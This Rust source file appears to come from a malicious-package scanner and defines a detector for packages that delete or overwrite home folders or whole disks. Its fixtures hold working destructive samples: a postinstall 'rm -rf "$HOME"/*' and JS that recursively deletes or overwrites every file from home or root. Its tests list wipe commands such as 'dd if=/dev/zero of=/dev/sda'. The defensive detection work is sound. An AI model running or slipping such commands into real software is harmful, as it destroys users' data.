//! Everything in a home folder or on a disk is deleted or made unreadable.

use super::judge::{self, ByTrigger};
use super::{Context, Declaration, Example, Finding};
use crate::behaviours::Behaviour;
use crate::model::{Origin, Severity};

pub(super) static FINDING: Declaration = Declaration {
    id: "destructive-delete",
    title: "Deletes or overwrites what is not its own",
    severity: Severity::Critical,
    summary: "The package deletes or overwrites a home folder, the root of a disk or everything in one of them.",
    advice: "Don't install it. If it ran, restore from a backup before you write anything to that disk.",
    benign_when: "It cleans up a disk image or a container that it made itself.",
    references: &["CWE-506", "CWE-73", "T1485", "T1561"],
    examples: &[
        Example {
            name: "a walk through the home folder deletes what it finds, from another file",
            severity: Some(Severity::Critical),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const fs = require("fs"), os = require("os");
const { flatten } = require("./source");
setImmediate(() => {
  for (const file of flatten(os.homedir())) fs.rmSync(file, { force: true });
});"#,
                ),
                (
                    "source.js",
                    r#"const fs = require("fs"), path = require("path");
exports.flatten = function* flatten(dir) {
  for (const one of fs.readdirSync(dir, { withFileTypes: true })) {
    const full = path.join(dir, one.name);
    if (one.isDirectory()) yield* flatten(full);
    else yield full;
  }
};"#,
                ),
            ],
        },
        Example {
            name: "an install script deletes the home folder",
            severity: Some(Severity::Critical),
            files: &[(
                "package.json",
                r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"rm -rf \"$HOME\"/*"}}"#,
            )],
        },
        Example {
            name: "code deletes all that is in the home folder on import",
            severity: Some(Severity::Critical),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const fs = require("fs"), os = require("os");
for (const name of fs.readdirSync(os.homedir())) fs.rmSync(os.homedir() + "/" + name, { recursive: true });"#,
                ),
            ],
        },
        Example {
            name: "code overwrites all that it finds from the root",
            severity: Some(Severity::Critical),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const fs = require("fs"), path = require("path");
function go(dir) {
  for (const name of fs.readdirSync(dir)) {
    const at = path.join(dir, name);
    if (fs.statSync(at).isDirectory()) go(at); else fs.writeFileSync(at, "x");
  }
}
go("/");"#,
                ),
            ],
        },
        Example {
            name: "a cache of its own below the home folder",
            severity: None,
            files: &[(
                "package.json",
                r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"rm -rf $HOME/.cache/a"}}"#,
            )],
        },
        Example {
            name: "a build folder",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","bin":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const fs = require("fs"), path = require("path");
for (const name of fs.readdirSync("dist")) fs.rmSync(path.join("dist", name), { recursive: true });"#,
                ),
            ],
        },
    ],
    detect,
};

const AT_MOST: ByTrigger = ByTrigger {
    import: Severity::Critical,
    asked: Severity::Medium,
};

fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
    for behaviour in context.behaviours {
        let Some(target) = behaviour.target.as_deref() else {
            continue;
        };
        let message = match behaviour.what.id {
            "fs.delete" if is_everything(target) => format!("deletes {target}"),
            "process.exec" | "process.spawn" => match wipes(target) {
                Some(what) => format!("overwrites {what}: {target}"),
                None => continue,
            },
            _ => continue,
        };
        let mut finding = Finding::of_behaviour(&FINDING, behaviour, message);
        judge::by_trigger(AT_MOST, &mut finding);
        found.push(finding);
    }
    found.extend(overwritten(context));
}

/// Files whose names come from a listing are overwritten, and what is listed is a home folder,
/// the root or what lies above.
fn overwritten(context: &Context<'_>) -> Option<Finding> {
    found_at_home(context).or_else(|| found_in_root(context))
}

/// A file whose name comes from the home folder and from a listing, and from nothing else that is
/// known, is overwritten or deleted without anybody asking: caches are cleared when asked.
fn found_at_home(context: &Context<'_>) -> Option<Finding> {
    let of = |id: &'static str| {
        let all = context.behaviours.iter();
        all.filter(move |one| one.what.id == id)
    };
    let is_beside = |a: &Behaviour, b: &Behaviour| {
        a.sites
            .iter()
            .any(|a| b.sites.iter().any(|b| a.file == b.file))
    };
    let mut changed = of("fs.write").chain(of("fs.delete")).filter(|one| {
        let is_any = one.target.is_none();
        let is_unasked = judge::is_unasked(one.reach);
        is_any && is_unasked && one.origin.has(Origin::File) && one.origin.has(Origin::Host)
    });
    let home = |one: &&Behaviour| one.target.as_deref() == Some("home");
    let first = changed.find(|one| {
        let mut homes = of("environment.host").filter(home);
        homes.any(|home| is_beside(home, one))
    })?;
    of("fs.list").next()?;
    let does = match first.what.id {
        "fs.write" => "writes to",
        _ => "deletes",
    };
    let message = format!("{does} each file that it finds in the home folder");
    let mut finding = Finding::of_behaviour(&FINDING, first, message);
    judge::by_trigger(AT_MOST, &mut finding);
    Some(finding)
}

fn found_in_root(context: &Context<'_>) -> Option<Finding> {
    let listed = context.behaviours.iter().find(|one| {
        one.what.id == "fs.list"
            && one
                .target
                .as_deref()
                .is_some_and(|at| is_everything(at) || is_above(at))
    })?;
    let root = listed.target.as_deref()?;
    let written = context.behaviours.iter().find(|one| {
        let same_file = one
            .sites
            .iter()
            .any(|site| listed.sites.iter().any(|at| at.file == site.file));
        one.what.id == "fs.write"
            && same_file
            && one.target.as_deref().is_none_or(is_any_name)
            && one.reach == listed.reach
    })?;
    let message = format!("writes to each file that it finds in {root}");
    let mut finding = Finding::of_behaviour(&FINDING, written, message);
    finding.evidence.extend(&listed.sites);
    finding.evidence.sort_unstable();
    finding.parts = vec![root.to_owned()];
    let at_most = ByTrigger {
        import: Severity::Critical,
        asked: Severity::Low,
    };
    judge::by_trigger(at_most, &mut finding);
    Some(finding)
}

/// Whether a path is made of nothing but unknown names.
fn is_any_name(path: &str) -> bool {
    let mut parts = path
        .trim_start_matches("~/")
        .split('/')
        .filter(|part| *part != "..");
    parts.all(|part| matches!(part, "<?>" | "." | ""))
}

/// Whether a path is the parent of the working folder, or above.
fn is_above(path: &str) -> bool {
    !path.is_empty() && path.split('/').all(|part| part == "..") && path.len() > 2
}

/// Whether a path is a whole disk, a home folder or everything in one.
fn is_everything(path: &str) -> bool {
    let path = path.replace('\\', "/");
    let path = path.trim_matches(['"', '\'']);
    let inner = ["/*", "/**", "/<?>", "/*.*", "/.*", "/**/*"]
        .iter()
        .find_map(|end| path.strip_suffix(end))
        .unwrap_or(path);
    let inner = inner.trim_end_matches('/');
    let is_drive = inner.len() == 2
        && inner.ends_with(':')
        && inner.starts_with(|c: char| c.is_ascii_alphabetic());
    let is_home = matches!(inner, "~" | "/home" | "/Users" | "/root" | "C:/Users");
    let below_homes = ["/home/", "/Users/", "C:/Users/"]
        .iter()
        .find_map(|homes| inner.strip_prefix(homes));
    (inner.is_empty() && path.starts_with('/'))
        || is_drive
        || is_home
        || below_homes.is_some_and(|user| !user.is_empty() && !user.contains('/'))
}

/// What a command makes unreadable, if that is a whole disk or home.
fn wipes(command: &str) -> Option<&str> {
    let mut words = command.split_whitespace();
    let first = words.next()?;
    let program = first.rsplit(['/', '\\']).next()?.trim_end_matches(".exe");
    let rest = words.clone();
    match program {
        "shred" | "srm" | "wipe" => rest.into_iter().find(|word| is_everything(word)),
        "cipher" => rest
            .into_iter()
            .filter_map(|word| {
                word.get(3..)
                    .filter(|_| word.to_ascii_lowercase().starts_with("/w:"))
            })
            .find(|at| is_everything(at)),
        "dd" => rest
            .into_iter()
            .filter_map(|word| word.strip_prefix("of="))
            .find(|at| is_disk(at)),
        name if name == "mkfs" || name.starts_with("mkfs.") => {
            rest.into_iter().find(|word| is_disk(word))
        }
        "format" => rest.into_iter().find(|word| is_everything(word)),
        _ => None,
    }
}

fn is_disk(path: &str) -> bool {
    let name = path.strip_prefix("/dev/").unwrap_or("");
    ["sd", "nvme", "hd", "vd", "disk", "mmcblk", "xvd"]
        .iter()
        .any(|kind| name.starts_with(kind))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn everything_is_a_disk_a_home_or_all_that_is_in_it() {
        for path in [
            "/",
            "/*",
            "~",
            "~/",
            "~/*",
            "~/<?>",
            "C:",
            "C:\\",
            "/home/bob/",
            "/home/*",
        ] {
            assert!(is_everything(path), "{path}");
        }
        for path in [
            "~/.cache",
            "~/.cache/*",
            "dist",
            "./*",
            "/home/bob/app",
            "<package>/",
            "/tmp/*",
            "*",
        ] {
            assert!(!is_everything(path), "{path}");
        }
    }

    #[test]
    fn wiping_needs_a_whole_home_or_disk() {
        assert_eq!(wipes("shred -uvz -n 1 ~"), Some("~"));
        assert_eq!(wipes("cipher /W:~"), Some("~"));
        assert_eq!(wipes("dd if=/dev/zero of=/dev/sda"), Some("/dev/sda"));
        assert_eq!(wipes("shred -u key.pem"), None);
        assert_eq!(wipes("dd if=a of=b.img"), None);
    }
}
